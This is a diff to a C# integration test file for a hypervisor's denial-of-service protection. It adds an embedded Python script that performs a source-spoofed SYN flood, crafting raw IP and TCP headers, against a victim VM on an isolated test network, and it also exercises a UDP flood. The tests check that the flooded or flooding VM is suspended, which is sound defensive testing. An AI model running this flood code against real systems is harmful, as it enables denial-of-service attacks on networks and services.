@@ -22,54 +22,42 @@ public class LinuxNetDosTests(ITestOutputHelper output)
     private static readonly TimeSpan Timeout = TimeSpan.FromSeconds(600);
     private const string Peer = "10.77.5.1", Victim = "10.77.5.2", Bystander = "10.77.5.3";
 
-    // SYNs to ADDR:PORT from random source ports at about RATE per second for SECONDS, through a
-    // raw socket (the kernel adds the IP header); prints "sent N".
+    // SYNs to ADDR:PORT at about RATE per second for SECONDS from random spoofed sources in
+    // 198.18.0.0/15 (IP_HDRINCL: the script writes the IP header), as a real SYN flood comes: the
+    // victim's SYN-ACKs go to its gateway, the peer, which drops them, so no RST completes the
+    // handshakes (a flood from the peer's own address would be reset by its kernel). Prints "sent N".
     private const string SynFlood = """
         import random, socket, struct, sys, time
         dst, port, rate, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
-        src = sys.argv[5]
-        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
         def csum(b):
             if len(b) % 2: b += b"\0"
             t = sum(struct.unpack("!%dH" % (len(b) // 2), b)); t = (t >> 16) + (t & 0xffff); t += t >> 16
             return ~t & 0xffff
         n = 0; start = time.monotonic()
         while time.monotonic() - start < seconds:
-            sport = random.randint(1024, 65535)
-            hdr = struct.pack("!HHIIBBHHH", sport, port, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
-            pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr))
-            hdr = hdr[:16] + struct.pack("!H", csum(pseudo + hdr)) + hdr[18:]
-            s.sendto(hdr, (dst, 0)); n += 1
+            src = socket.inet_aton("198.%d.%d.%d" % (18 + random.getrandbits(1), random.getrandbits(8), random.randint(1, 254)))
+            tcp = struct.pack("!HHIIBBHHH", random.randint(1024, 65535), port, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
+            pseudo = src + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
+            tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0, src, socket.inet_aton(dst))
+            ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+            s.sendto(ip + tcp, (dst, 0)); n += 1
             ahead = n / rate - (time.monotonic() - start)
             if ahead > 0: time.sleep(ahead)
         print("sent", n, flush=True)
         """;
 
-    private static string LinuxFile(string file)
-    {
-        TestEnvironment.RequireKvm();
-        string path = Path.Combine(TestEnvironment.BuildDir, "linux", file);
-        if (!File.Exists(path))
-            TestEnvironment.SkipIf($"{path} is missing (run 'make linux')");
-        return path;
-    }
-
     [SkippableFact]
     public void ASynFloodAtOneVmSuspendsItWhileAnotherVmsTransferGoesOn()
     {
-        string kernel = LinuxFile("bzImage"), initrd = LinuxFile("initramfs.cpio.gz");
+        LinuxNetGuest.Files();
         using var net = NetTopology.Create();
         string bridge = net.AddBridge();
         var peer = net.AddPeer(bridge, Peer + "/24");
         const long bytes = 24 << 20;
         var served = peer.ServeBytes(5000, bytes);
 
-        VmSpec Spec(string address, string checks, NicSpec nic) => new()
-        {
-            Kernel = kernel, Initrd = initrd, Cpus = 1, MemoryBytes = 256UL << 20, DebugExit = true,
-            Cmdline = $"console=ttyS0 quiet panic=-1 ip={address}::{Peer}:255.255.255.0::eth0:off kvmtest={checks}",
-            Nics = [nic],
-        };
         // The victim waits for a connection that never comes (tcpserve); its NIC suspends the VM
         // at 200 half-open handshakes per second sustained for a second.
         var victimNic = new NicSpec
@@ -80,8 +68,8 @@ public class LinuxNetDosTests(ITestOutputHelper output)
         var bystanderNic = new NicSpec { Uplinks = [new UplinkSpec { Tap = net.Prefix + "tb", Bridge = bridge }] };
         var victimSerial = new SerialCapture();
         var bystanderSerial = new SerialCapture();
-        using var victim = VirtualMachine.Create(Spec(Victim, "ping:" + Peer + ",tcpserve:7000:1", victimNic), victimSerial.Write);
-        using var bystander = VirtualMachine.Create(Spec(Bystander, $"ping:{Peer},tcpget:{Peer}:5000:{bytes}", bystanderNic), bystanderSerial.Write);
+        using var victim = VirtualMachine.Create(LinuxNetGuest.Spec(Victim, Peer, $"ping:{Peer},tcpserve:7000:1", victimNic), victimSerial.Write);
+        using var bystander = VirtualMachine.Create(LinuxNetGuest.Spec(Bystander, Peer, $"ping:{Peer},tcpget:{Peer}:5000:{bytes}", bystanderNic), bystanderSerial.Write);
         using var control = new VmControl(victim);
         control.Register(new RpcDispatcher(NullLogger.Instance));
         var alarms = new List<(string Nic, DosAlarm Alarm)>();
@@ -92,7 +80,7 @@ public class LinuxNetDosTests(ITestOutputHelper output)
 
         Assert.True(SpinWait.SpinUntil(() => victimSerial.Text.Contains("tcpserve listening 7000", StringComparison.Ordinal), Timeout),
             "the victim did not listen; console:\n" + victimSerial.Text);
-        var flood = peer.Run(TimeSpan.FromMinutes(3), net.Python, "-c", SynFlood, Victim, "7000", "1000", "8", Peer);
+        var flood = peer.Run(TimeSpan.FromMinutes(3), net.Python, "-c", SynFlood, Victim, "7000", "1000", "8");
         Assert.True(flood.ExitCode == 0, flood.Stdout + flood.Stderr);
         Assert.True(SpinWait.SpinUntil(() => control.State == "paused", TimeSpan.FromSeconds(60)),
             $"the victim is {control.State} after the flood ({flood.Stdout.Trim()}); alarms: {string.Join("; ", alarms.Select(a => a.Alarm.Describe()))}");
@@ -120,7 +108,7 @@ public class LinuxNetDosTests(ITestOutputHelper output)
     [SkippableFact]
     public void AVmFloodingOutwardIsSuspendedAndGoesOnWhenResumed()
     {
-        string kernel = LinuxFile("bzImage"), initrd = LinuxFile("initramfs.cpio.gz");
+        LinuxNetGuest.Files();
         using var net = NetTopology.Create();
         string bridge = net.AddBridge();
         net.AddPeer(bridge, Peer + "/24");
@@ -130,12 +118,7 @@ public class LinuxNetDosTests(ITestOutputHelper output)
             Dos = new DosRules { UdpPerSecond = 500, Window = TimeSpan.FromSeconds(1), Action = DosAction.Suspend },
         };
         var serial = new SerialCapture();
-        using var vm = VirtualMachine.Create(new VmSpec
-        {
-            Kernel = kernel, Initrd = initrd, Cpus = 1, MemoryBytes = 256UL << 20, DebugExit = true,
-            Cmdline = $"console=ttyS0 quiet panic=-1 ip={Victim}::{Peer}:255.255.255.0::eth0:off kvmtest=udpflood:{Peer}:9999:6:3000",
-            Nics = [nic],
-        }, serial.Write);
+        using var vm = VirtualMachine.Create(LinuxNetGuest.Spec(Victim, Peer, $"udpflood:{Peer}:9999:6:3000", nic), serial.Write);
         using var control = new VmControl(vm);
         control.Register(new RpcDispatcher(NullLogger.Instance));
         using var cancel = new CancellationTokenSource(Timeout);
